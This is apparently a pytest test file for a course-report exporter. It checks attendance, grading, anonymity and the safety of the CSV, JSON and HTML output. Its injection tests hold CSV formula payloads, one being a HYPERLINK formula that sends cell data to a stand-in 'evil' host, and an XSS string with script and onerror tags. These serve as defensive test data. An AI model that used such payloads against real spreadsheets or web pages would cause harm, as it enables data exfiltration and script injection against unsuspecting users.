"""The content of an export, and that its three forms tell it whole and do no harm."""

import csv
import datetime
import html.parser
import io
import json
import re

import hypothesis
import pytest
from hypothesis import strategies as st

from tests.workshop import telling
from tutor.course import model
from tutor.workshop import atstep, board, orders, reports, roster, wire
from tutor.workshop.export import as_csv, as_html, as_json, report, texts

ONE, TWO = ("07", "one"), ("07", "two")
ASN = "the router says of k8s-w2: Active (OPEN Message Error/Bad Peer AS)"
KOREAN = telling.wrong(
    "라우터에서 본 k8s-w2의 상태: Idle (OPEN Message Error/Bad Peer AS)",
    "k8s-w2 노드와 BGP 세션 수립",
    en_expected="a BGP session with k8s-w2",
    en_seen=ASN.replace("Active", "Idle"),
)
QUESTION = model.Prediction(
    {"en": "Who answers?", "ko": "누가 응답할까요?"},
    (model.Option("a", {"en": "k8s-w1", "ko": "k8s-w1"}), model.Option("b", {"en": "nobody", "ko": "없음"})),
    "b",
)


def _use(name: str) -> model.CheckUse:
    return model.CheckUse(name, {}, "k8s-m", {"en": "Sessions", "ko": "BGP 세션"})


COURSE = model.Course(
    model.NOWHERE.file,
    ("en", "ko"),
    (
        model.Lesson(
            "07", 7, {"en": "BGP"}, {},
            (
                model.Step("one", {"en": "Sessions", "ko": "세션"}, {}, (), QUESTION, (_use("bgp.sessions"),)),
                model.Step("two", {"en": "Routes", "ko": "경로"}, {}, checks=(_use("x"),)),
            ),
            (),
        ),
    ),
)  # fmt: skip
TOLD: dict[str, list[tuple[float, object]]] = {
    "ann": [
        (0, telling.joined("Ann", total=2)),
        (0, reports.Entered(*ONE)),
        (10, reports.Predicted(*ONE, "a", 0)),
        (40, telling.graded(telling.wrong(ASN))),
        (50, telling.graded(telling.wrong(ASN))),
        (70, telling.graded(telling.right())),
        (70, reports.Settled(*ONE, "passed")),
        (80, reports.Left()),
    ],
    "bob": [
        (5, telling.joined("밥", "ko", total=2)),
        (5, reports.Entered(*ONE)),
        (25, telling.graded(KOREAN)),
        (30, reports.Hinted(*ONE, 1)),
        (35, reports.Answered("p", "y")),
    ],
    "eve": [
        (7, telling.joined("Eve", total=2)),
        (8, reports.Entered(*TWO)),
        (9, reports.Settled(*TWO, "skipped")),
        (9, telling.graded(telling.wrong("", check="x", fault="KeyError (/a/b.py:1)"), step="two")),
    ],
}


def source(course: model.Course | None = COURSE, **names: str) -> report.Source:
    """A class of three; some may be called otherwise."""
    folded, asked = roster.Roster(), board.Board()
    for who, told in TOLD.items():
        for n, (at, body) in enumerate(told, 1):
            folded.fold(who, telling.message(body, n, at))
        if who in names:
            folded.fold(who, telling.message(telling.joined(names[who], total=2), len(told) + 1, told[-1][0]))
    poll = orders.Poll("p", "Go on?", (orders.Option("y", "Yes"), orders.Option("n", "No")))
    for n, body in enumerate((poll, orders.Solution("p", "y"))):
        asked.fold(
            None, wire.Message(wire.Envelope(n, "2026-01-02T03:04:05Z", "desk", f"id{n}"), body), telling.ZERO
        )
    return report.Source("net101", "Networking", folded, asked, course)


def made(lang: str = "en", *, anonymous: bool = False, **names: str) -> report.Report:
    """Its report."""
    return report.make(source(COURSE, **names), telling.ZERO + 100, lang, anonymous=anonymous)


def test_attendance_and_progress() -> None:
    """In the order of coming."""
    found = made()
    assert [(one.name, one.passed, one.total, one.present, one.worked) for one in found.learners] == [
        ("Ann", 1, 2, 80.0, 70.0),
        ("밥", 0, 2, 30.0, 30.0),
        ("Eve", 0, 2, 2.0, 1.0),
    ]
    assert (found.begin, found.end) == (telling.ZERO, telling.ZERO + 80)
    assert {key: step.status for key, step in found.learners[2].steps.items()} == {TWO: "skipped"}


def test_time_per_step() -> None:
    """Of those who passed it."""
    one, two = made().steps
    assert one == report.StepReport(ONE, "Sessions", 2, 1, 0, 1, 70.0, 70.0, 2.0, 1)
    assert (two.came, two.skipped, two.median) == (1, 1, None)


@pytest.mark.parametrize(("lang", "seen"), [("en", ASN), ("ko", KOREAN.seen)])
def test_what_failed_most(lang: str, seen: str) -> None:
    """One mistake in two languages is one difference, in the words of who reads it."""
    sessions, fault = made(lang).checks
    assert (sessions.check, sessions.learners, sessions.times) == ("bgp.sessions", 2, 3)
    (difference,) = sessions.differences
    assert (difference.learners, difference.times) == (2, 3)
    assert difference.seen in (seen, seen.replace("Active", "Idle"))
    assert [one.kind for one in fault.differences] == ["fault"]


def test_polls_and_predictions() -> None:
    """Each option with its count."""
    poll, prediction = made("ko").polls
    assert [(one.id, one.votes, one.right) for one in poll.choices] == [("y", 1, True), ("n", 0, False)]
    assert (prediction.question, prediction.key, prediction.at) == ("누가 응답할까요?", ONE, None)
    assert [(one.votes, one.right) for one in prediction.choices] == [(1, False), (0, True)]


def test_without_its_course() -> None:
    """Ids take the place of titles."""
    found = report.make(source(course=None), telling.ZERO + 100, "en")
    assert [step.title for step in found.steps] == ["one", "two"]


def test_an_empty_class() -> None:
    """Has a page as well."""
    empty = report.Source("net101", "", roster.Roster(), board.Board())
    found = report.make(empty, telling.ZERO, "en")
    assert found.learners == ()
    assert texts.said("en", "nobody") in as_html.render(found, "en", datetime.UTC)
    assert json.loads(as_json.render(found))["class"]["begin"] is None


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_nobody_is_named_in_an_anonymous_report(lang: str) -> None:
    """In none of its forms; the figures are the same."""
    found = made(lang, anonymous=True)
    forms = [as_html.render(found, lang, datetime.UTC), as_json.render(found)]
    forms += [as_csv.render(found, table) for table in as_csv.TABLES]
    for form in forms:
        assert not any(name in form for name in ("Ann", "밥", "Eve", "ann", "bob"))
    assert [one.name for one in found.learners] == ["1", "2", "3"]
    assert found.checks == made(lang).checks


def test_json_holds_all() -> None:
    """In plain UTF-8, since what is readable needs no escape."""
    written = as_json.render(made())
    found = json.loads(written)
    assert "밥" in written
    assert found["format"] == as_json.FORMAT
    assert found["class"]["begin"] == "2026-01-02T09:00:00Z"
    assert found["learners"][0]["stays"] == [{"begin": "2026-01-02T09:00:00Z", "end": "2026-01-02T09:01:20Z"}]
    assert found["checks"][0]["differences"][0]["learners"] == 2
    assert [len(found[key]) for key in ("learners", "steps", "checks", "polls")] == [3, 2, 2, 2]


@pytest.mark.parametrize("table", as_csv.TABLES)
def test_tables_have_their_columns(table: str) -> None:
    """Every row has all of them, and there is no byte order mark."""
    written = as_csv.render(made(), table)
    rows = list(csv.reader(io.StringIO(written)))
    assert tuple(rows[0]) == as_csv.COLUMNS[table]
    assert len(rows) > 1
    assert all(len(row) == len(rows[0]) for row in rows)
    assert not written.startswith("\ufeff")


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "\n@x"])
def test_no_name_is_a_formula(name: str) -> None:
    """Whatever stands before it."""
    rows = list(csv.reader(io.StringIO(as_csv.render(made(ann=name), "progress"))))
    assert rows[1][1].startswith("'")


@pytest.mark.parametrize("begin", [";", "\t", "\r", "\n", "; ", ';"', ";;", ",;\t"])
@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_part_of_a_name_is_a_formula(separator: str, begin: str) -> None:
    """Where a comma is the decimal mark, spreadsheets split at ";", and with their quotes it is nothing."""
    name = f'x{begin}=HYPERLINK("http://evil/"&A1)'
    cells = re.split(f"[{separator}\r\n]", as_csv.render(made(ann=name), "progress"))
    assert not [cell for cell in cells if cell.strip(" \"'")[:1] == "=" and "'" not in cell.partition("=")[0]]


@hypothesis.given(st.text() | st.text(alphabet="=+-@x;\"' \t\n"))
def test_any_cell_is_harmless(text: str) -> None:
    """And numbers stay what they are."""
    cell = as_csv.harmless(text)
    assert isinstance(cell, str)
    for part in cell.split(";"):
        assert part.lstrip(' "')[:1] not in tuple("=+-@")
    cell.encode()
    assert as_csv.harmless(-1.5) == -1.5


class _Seen(html.parser.HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.open: list[str] = []
        self.words = ""
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ("meta", "br"):
            self.open.append(tag)
        self.links += [name for name, _ in attrs if name in ("href", "src", "action", "onload", "onclick")]

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data


HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>\x1b[2J\u202e&amp;"


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_the_page_is_whole_and_harmless(lang: str) -> None:
    """Its tags are closed, nothing is loaded, and a name is only a name."""
    page = as_html.render(made(lang, ann=HOSTILE), lang, datetime.UTC)
    seen = _Seen()
    seen.feed(page)
    assert seen.open == []
    assert seen.links == []
    assert not {"script", "img", "link", "iframe", "base"} & set(seen.tags)
    assert "<script>alert(1)</script>" in seen.words
    assert "\x1b" not in page
    assert as_html.POLICY in page
    assert "url(" not in page
    assert "://" not in page
    plain = as_html.render(made(lang, ann="Ann"), lang, datetime.UTC)
    kept = _Seen()
    kept.feed(plain)
    assert kept.tags == seen.tags


def test_every_text_is_in_both_languages() -> None:
    """With the same places."""
    for key, said in texts.TEXTS.items():
        assert set(said) == {"en", "ko"}, key
        places = [{part.partition("}")[0] for part in text.split("{")[1:]} for text in said.values()]
        assert places[0] == places[1], key


@pytest.mark.parametrize(("seconds", "shown"), [(None, "–"), (0, "0:00"), (59.6, "1:00"), (3661, "1:01:01")])
def test_spans(seconds: float | None, shown: str) -> None:
    """As a clock shows them."""
    assert as_html.span(seconds) == shown


def test_a_learner_of_many_mistakes_is_told_by_the_commonest() -> None:
    """Not by all of them."""
    found = roster.Roster()
    for n in range(1, atstep.MISTAKES + 20):
        graded = telling.graded(telling.wrong(f"peer AS {n}"))
        found.fold("ann", telling.message(graded, n, n))
    made_of = report.Source("net101", "", found, board.Board())
    (check,) = report.make(made_of, telling.ZERO, "en").checks
    assert check.times == atstep.MISTAKES
    assert len(check.differences) == report.DIFFERENCES
